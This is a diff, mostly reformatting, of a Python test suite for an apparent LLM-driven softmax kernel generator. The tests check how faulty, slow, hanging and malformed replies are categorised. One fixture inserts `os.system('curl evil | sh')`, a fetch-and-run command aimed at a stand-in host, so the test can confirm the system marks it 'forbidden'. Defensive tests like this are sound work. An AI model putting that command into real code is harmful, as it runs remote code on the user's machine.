@@ -23,7 +23,7 @@ from uhop.ai import Budget, FactoryOptions, generate, quarantine, report  # noqa
 from uhop.ai.attempts import attempt_store  # noqa: E402
 from uhop.store import open_store  # noqa: E402
 
-SOFTMAX = '''
+SOFTMAX = """
 import time
 import numpy as np
 
@@ -33,12 +33,14 @@ OP = "softmax"
 def run(x):
     {sleep}e = np.exp(x - x.max(axis=-1, keepdims=True))
     return (e / e.sum(axis=-1, keepdims=True)).astype(x.dtype)
-'''
+"""
 FAST = SOFTMAX.format(sleep="")
 BASELINE = SOFTMAX.format(sleep="time.sleep(0.03)\n    ")
 SLOW = SOFTMAX.format(sleep="time.sleep(0.06)\n    ")
 WRONG = FAST.replace("/ e.sum(axis=-1, keepdims=True)", "")  # unnormalized: wrong-result
-HOSTILE = FAST.replace("import time", "import os").replace("    e = np.exp", "    os.system('curl evil | sh')\n    e = np.exp")
+HOSTILE = FAST.replace("import time", "import os").replace(
+    "    e = np.exp", "    os.system('curl evil | sh')\n    e = np.exp"
+)
 HANGS = SOFTMAX.format(sleep="time.sleep(3600)\n    ")
 SHAPE, DIMS = "64x128", {"R": 64, "N": 128}
 
@@ -75,7 +77,12 @@ def test_end_to_end_two_rounds(fake, baseline):
     fake.push(code_reply(WRONG), code_reply(HOSTILE), code_reply(FAST), code_reply(SLOW))
     res = _run(fake, rounds=2, variants=2)
     cats = [(a.round, a.variant, a.category, a.promoted) for a in res.attempts]
-    assert cats == [(0, 0, "wrong-result", False), (0, 1, "forbidden", False), (1, 0, "ok", True), (1, 1, "ok", False)], cats
+    assert cats == [
+        (0, 0, "wrong-result", False),
+        (0, 1, "forbidden", False),
+        (1, 0, "ok", True),
+        (1, 1, "ok", False),
+    ], cats
     fast, slow = res.attempts[2], res.attempts[3]
     assert fast.speedup_previous > 2 and fast.speedup_baseline > 2
     assert slow.speedup_previous < 1  # judged against the promoted kernel, which it does not beat
@@ -104,8 +111,12 @@ def test_end_to_end_two_rounds(fake, baseline):
     # every attempt recorded, with the template hash, tokens and verdicts
     rows = attempt_store(open_store()).attempts(run_id=res.run_id)
     assert [r["category"] for r in rows] == ["wrong-result", "forbidden", "ok", "ok"]
-    assert all(len(r["template_sha256"]) == 64 and r["model"] == "fake-coder" and r["tokens_in"] > 0 for r in rows)
-    assert rows[0]["max_err"] is None and rows[2]["max_err"] < 1e-5 and rows[2]["promoted"] and rows[0]["reason"]
+    assert all(
+        len(r["template_sha256"]) == 64 and r["model"] == "fake-coder" and r["tokens_in"] > 0 for r in rows
+    )
+    assert (
+        rows[0]["max_err"] is None and rows[2]["max_err"] < 1e-5 and rows[2]["promoted"] and rows[0]["reason"]
+    )
 
     doc = report()
     assert doc["variants"] == 4 and doc["validated"] == 2 and doc["promoted"] == 1
@@ -130,18 +141,26 @@ def test_end_to_end_two_rounds(fake, baseline):
 
 def test_provider_failures_are_attempts_and_loop_goes_on(fake, baseline):
     fake.push(
-        Act(kind="status", status=429, headers={"Retry-After": "0"}), code_reply(HANGS),  # rate-limited once, then a hang
+        Act(kind="status", status=429, headers={"Retry-After": "0"}),
+        code_reply(HANGS),  # rate-limited once, then a hang
         Act(kind="raw", body=b'{"choices": [{"mess', content_type="application/json"),  # truncated JSON
-        Act(kind="status", status=500), Act(kind="status", status=502),  # 5xx past the retries
+        Act(kind="status", status=500),
+        Act(kind="status", status=502),  # 5xx past the retries
         Act(text="I cannot write that kernel."),  # no code block
         Act(kind="stall", delay_s=30),  # timeout (retried once: the next act is a stall too)
         Act(kind="stall", delay_s=30),
         code_reply("x = 1\n" + "# pad\n" * 100_000),  # a huge reply
     )
-    res = _run(fake, rounds=3, variants=2, timeout_s=1.0, options=FactoryOptions(baseline="store", check_wall_s=2.0))
+    res = _run(
+        fake, rounds=3, variants=2, timeout_s=1.0, options=FactoryOptions(baseline="store", check_wall_s=2.0)
+    )
     cats = [a.category for a in res.attempts]
-    assert cats == ["timeout", "malformed-reply", "server-error", "no-code", "timeout", "reply-too-large"], cats
-    assert res.attempts[0].check_s >= 2.0 and res.attempts[0].tokens_in > 0  # the hang ran into the sandbox limit
+    assert cats == ["timeout", "malformed-reply", "server-error", "no-code", "timeout", "reply-too-large"], (
+        cats
+    )
+    assert (
+        res.attempts[0].check_s >= 2.0 and res.attempts[0].tokens_in > 0
+    )  # the hang ran into the sandbox limit
     assert res.attempts[4].check_s == 0.0  # a provider timeout, no sandbox run
     assert not res.promotions and open_store().get(res.key).candidate == baseline.best.candidate.to_json()
     doc = report()
@@ -156,7 +175,9 @@ def test_budget_stops_the_run(fake):
 
 
 def test_knowledge_transfer_to_a_related_shape(fake):
-    fake.push(code_reply(FAST))  # problem A: no entry yet, baseline=store -> the first valid kernel is promoted
+    fake.push(
+        code_reply(FAST)
+    )  # problem A: no entry yet, baseline=store -> the first valid kernel is promoted
     a = _run(fake, rounds=1, variants=1)
     assert a.attempts[0].promoted and not a.attempts[0].transfer
     fake.push(code_reply(WRONG))  # problem B: another shape of the same op
@@ -165,7 +186,9 @@ def test_knowledge_transfer_to_a_related_shape(fake):
     assert "softmax[64x128]" in prompt_b and "e.sum(axis=-1, keepdims=True)).astype" in prompt_b
     assert b.attempts[0].transfer
     fake.push(code_reply(WRONG))  # the same without transfer
-    c = _run(fake, shape="40x80", rounds=1, variants=1, options=FactoryOptions(baseline="store", transfer=False))
+    c = _run(
+        fake, shape="40x80", rounds=1, variants=1, options=FactoryOptions(baseline="store", transfer=False)
+    )
     assert "Nothing recorded for related problems" in fake.requests[2]["messages"][1]["content"]
     assert not c.attempts[0].transfer
     t = report()["transfer"]
@@ -193,6 +216,7 @@ def test_cli_generate_report_quarantine(fake, tmp_path):
     r = CliRunner().invoke(app, ["ai", "quarantine", doc["key"]])
     assert r.exit_code == 0 and "restored: nothing" in r.output
     assert open_store().get(doc["key"]) is None
-    r = CliRunner().invoke(app, ["ai", "generate", "nosuchop", "--shape", "8", "--base-url", fake.base_url, "--model", "m"])
+    r = CliRunner().invoke(
+        app, ["ai", "generate", "nosuchop", "--shape", "8", "--base-url", fake.base_url, "--model", "m"]
+    )
     assert r.exit_code == 2 and "OP must be one of" in r.output
-
